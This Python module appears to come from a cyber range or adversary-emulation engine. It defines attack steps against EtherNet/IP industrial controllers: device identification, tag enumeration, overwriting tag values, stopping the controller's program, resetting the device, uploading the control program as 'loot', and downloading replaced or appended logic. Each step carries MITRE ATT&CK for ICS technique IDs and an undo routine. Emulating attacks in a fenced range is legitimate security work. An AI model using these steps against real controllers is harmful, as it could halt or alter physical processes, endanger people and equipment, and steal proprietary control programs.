"""EtherNet/IP controllers: identity, tags, program; overwritten, stopped, reset."""

from __future__ import annotations

import contextlib
import hashlib
from collections.abc import AsyncIterator, Mapping
from typing import Any

from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.speakers import EnipSpeaker
from cyber_range.engine.attack.speaking import reach_of, speaking
from cyber_range.engine.attack.ways import Evidence

PORT = 44818
MOST_TAGS = 200


@contextlib.asynccontextmanager
async def dialogue(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> AsyncIterator[EnipSpeaker]:
    """Args of every step: host, port (44818)."""
    host, port = intruder.fence.check(str(args["host"])), int(args.get("port", PORT))
    reach = reach_of(intruder, evidence)
    evidence.facts["target"] = host
    async with speaking(host, lambda: intruder.toolbox.enip(reach, host, port)) as plc:
        yield plc


@step("enip_identify", "T0888", "T0868", needs=("session",))
async def enip_identify(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Vendor, product, revision, serial number and state (List Identity)."""
    async with dialogue(intruder, args, evidence) as plc:
        evidence.facts["identity"] = await plc.identity()


@step("enip_tags", "T0861", "T0802", "T0801", needs=("session",), gains=("points",))
async def enip_tags(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Names, types and values of all single tags. Gains the points."""
    async with dialogue(intruder, args, evidence) as plc:
        types = dict(list((await plc.tags()).items())[:MOST_TAGS])
        single = [name for name, kind in types.items() if kind and not kind.endswith("[]")]
        values = dict(zip(single, await plc.read(single), strict=True)) if single else {}
    evidence.facts["tags"] = {name: [kind, values.get(name)] for name, kind in types.items()}


@step("enip_write", "T0836", "T0855", "T0831", "T0838", "T0837", "T0878", "T0821", needs=("session",))
async def enip_write(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Overwrites a tag (`tag`, `value`) and reads it back. Leaves what was there for `undo`."""
    tag, value = str(args["tag"]), float(args["value"])
    async with dialogue(intruder, args, evidence) as plc:
        before = (await plc.read([tag]))[0]
        await plc.write(tag, value)
        after = (await plc.read([tag]))[0]
    evidence.facts |= {"tag": tag, "value": value, "before": before, "after": after}
    where = dict(args)

    async def put_back(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, where, told) as plc:
            await plc.write(tag, before)
        return {"target": str(where["host"]), "tag": tag, "value": before}

    intruder.undo_with((args["host"], "enip", tag), put_back)


@step("enip_stop", "T0858", "T0816", "T0881", "T0813", needs=("session",))
async def enip_stop(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Stops the controller's program. `undo` starts it again."""
    async with dialogue(intruder, args, evidence) as plc:
        await plc.stop()
    where = dict(args)

    async def run_again(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, where, told) as plc:
            await plc.start()
        return {"target": str(where["host"]), "mode": "run"}

    intruder.undo_with((args["host"], "enip", "mode"), run_again)


@step("enip_reset", "T0816", "T0814", needs=("session",))
async def enip_reset(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Resets the device as a power cycle does (Identity object, service 5)."""
    async with dialogue(intruder, args, evidence) as plc:
        await plc.reset()


@step("enip_upload", "T0845", "T0882", needs=("session",), gains=("program", "loot"))
async def enip_upload(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Takes the controller's program file. Gains the program (loot under "program/HOST")."""
    async with dialogue(intruder, args, evidence) as plc:
        content = await plc.upload()
    intruder.loot[f"program/{args['host']}"] = content
    evidence.facts["taken"] = {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}


@step("enip_download", "T0843", "T0889", "T0821", needs=("session",))
async def enip_download(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Replaces the program (`code`) or appends lines to it (`append`). `undo` loads the original."""
    async with dialogue(intruder, args, evidence) as plc:
        before = await plc.upload()
        if "append" in args:
            lines = [args["append"]] if isinstance(args["append"], str) else list(args["append"])
            after = before.rstrip(b"\n") + "\n".join(["", *map(str, lines), ""]).encode()
        else:
            after = str(args["code"]).encode()
        await plc.download(after)
    evidence.facts |= {"before": hashlib.sha256(before).hexdigest(), "after": hashlib.sha256(after).hexdigest()}
    where = dict(args)

    async def original(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, where, told) as plc:
            await plc.download(before)
        return {"target": str(where["host"]), "program": "original"}

    intruder.undo_with((args["host"], "enip", "program"), original)
